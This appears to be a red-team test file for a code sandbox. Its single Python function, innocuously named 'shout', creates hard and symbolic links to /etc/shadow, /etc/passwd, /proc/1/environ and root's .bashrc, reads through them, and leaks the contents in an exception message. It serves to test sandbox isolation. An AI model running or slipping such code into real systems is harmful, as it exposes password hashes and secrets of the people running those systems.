"""Makes hard and symbolic links in its folder to files outside, and reads through them.

class: read
"""

import os


def shout(words):
    found = []
    for path in (
        "/etc/shadow",
        "/etc/passwd",
        "/proc/1/environ",
        os.path.expanduser("~root/.bashrc"),
        "/proc/self/root/etc/shadow",
    ):
        for link in (os.link, os.symlink):
            try:
                link(path, "loot")
                found.append(open("loot", errors="replace").read(2000))
                if "shadow" in path:
                    found.append("redteam-win: read /etc/shadow")
            except OSError:
                continue
            finally:
                if os.path.lexists("loot"):
                    os.unlink("loot")
    raise ValueError("\n".join(found))
